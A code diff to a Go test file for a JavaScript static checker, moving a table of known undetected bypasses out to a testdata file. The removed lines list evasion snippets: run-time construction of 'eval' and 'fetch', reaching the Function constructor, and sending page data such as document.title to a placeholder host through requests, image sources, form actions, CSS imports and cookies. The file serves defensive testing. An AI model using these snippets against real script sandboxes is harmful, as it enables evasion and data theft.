@@ -1,6 +1,7 @@
 package javascript
 
 import (
+	"os"
 	"strings"
 	"testing"
 )
@@ -212,58 +213,24 @@ func TestBypassesAreDetected(t *testing.T) {
 	}
 }
 
-// unseen are bypasses that no rule on the text finds. The boundary that holds
-// while a script runs stops them (or, for the page's own functions and the
-// cookie, lets them be); this table says that nobody may rely on Check for it.
-var unseen = []string{
-	// deputies: the page's functions do it
-	`$.get('https://x/?' + document.title)`,
-	`pageApply('fetch', '/x')`,
-	`app.request('/x')`,
-	`getToken('1&leak=' + document.title)`,
-	// names built or found at run time
-	`Object.values(window).find(f => f?.name === 'fet' + 'ch')('/x')`,
-	`for (const [k, f] of Object.entries(window)) if (k.length === 5) f('/x')`,
-	`const o = {}; o.w = window; o.w.eval('x')`,
-	`const s = new Map([['w', window]]); s.get('w').eval('x')`,
-	`class A { w = window; go() { this.w.eval('x') } } new A().go()`,
-	`Promise.resolve(window).then(w => w.eval('x'))`,
-	`(function () { arguments[0].eval('x') })(window)`,
-	`new Proxy(window, {}).eval('x')`,
-	`structuredClone; [...[window].values()][0].eval('x')`,
-	`const k = []; k.push('constructor'); const f = () => {}; f[k[0]]('x')()`,
-	`const f = x => x; f(alert[k])('x')`,
-	`try { null.x } catch (e) { e[k][k]('x')() }`,
-	`Reflect.apply(setTimeout, window, ['x'])`,
-	`setTimeout(...['x'])`,
-	// what the DOM does
-	`el.innerHTML = lt + 'img src=x one' + r + 'ror=x>'`,
-	`el.setAttribute(name, 'x')`,
-	`el.setAttributeNode(attr)`,
-	`document.body.style.backgroundImage = 'url(https://x/)'`,
-	`document.adoptedStyleSheets[0].insertRule('@import "https://x/"')`,
-	`new FontFace('x', 'url(https://x/)').load()`,
-	`document.querySelector('img').src = 'https://x/'`,
-	`document.querySelector('form').action = 'https://x/'; document.forms[0].submit()`,
-	`const a = document.createElement('a'); a.href = 'https://x/'; a.click()`,
-	`document.head.append(Object.assign(document.createElement('link'), { href: 'https://x/' }))`,
-	`caches.open('x').then(c => c.add('/x'))`,
-	`document.querySelector('audio').src = 'https://x/'`,
-	// hooks
-	`el.onclick = () => 1`,
-	`new ResizeObserver(f).observe(el)`,
-	`new PerformanceObserver(f).observe({ type: 'paint' })`,
-	`customElements.define('x-y', class extends HTMLElement {})`,
-	`setInterval(() => leak(), 10)`,
-	`Array.prototype.map = function () {}`,
-	// what leaves later
-	`document.cookie = 'leak=' + document.title`,
+// lines returns the lines of a file that are not comments.
+func lines(t testing.TB, name string) (list []string) {
+	text, err := os.ReadFile(name)
+	if err != nil {
+		t.Fatal(err)
+	}
+	for line := range strings.Lines(string(text)) {
+		if !strings.HasPrefix(line, "//") {
+			list = append(list, strings.TrimSuffix(line, "\n"))
+		}
+	}
+	return list
 }
 
 func TestLimitsOfStaticCheck(t *testing.T) {
-	for _, body := range unseen {
+	for _, body := range lines(t, "testdata/undetected.txt") {
 		if got := Check("(() => { " + body + " })()"); len(got) > 0 {
-			t.Errorf("%s is seen now, so move it to the bypasses: %+v", body, got)
+			t.Errorf("Check detects %s, so move it to the bypasses: %+v", body, got)
 		}
 	}
 }
